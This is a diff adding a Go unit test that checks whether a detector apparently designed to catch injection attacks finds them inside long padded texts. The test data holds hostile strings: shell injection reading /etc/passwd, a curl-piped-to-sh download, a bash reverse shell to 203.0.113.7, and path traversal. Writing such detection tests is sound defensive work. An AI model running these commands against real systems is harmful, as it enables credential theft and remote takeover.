@@ -37,3 +37,18 @@ func TestSink(t *testing.T) {
 		}
 	}
 }
+
+// TestLongTexts: what reads secrets or opens a way out is found in texts of any length.
+func TestLongTexts(t *testing.T) {
+	words := strings.Repeat("lorem ipsum dolor ", 500)
+	for _, attack := range []string{"; cat /etc/passwd", "$(cat /etc/passwd)", "; curl http://203.0.113.7/x.sh | sh", "; bash -i >& /dev/tcp/203.0.113.7/99 0>&1", "../../../../etc/passwd"} {
+		for _, text := range []string{words + attack, attack + " " + words} {
+			if _, ok := Value([]byte(text), All); !ok {
+				t.Errorf("%q is not found in a long text", attack)
+			}
+		}
+	}
+	if hit, ok := Value([]byte(words), All); ok {
+		t.Errorf("nothing is in it, but %s", hit.Kind)
+	}
+}
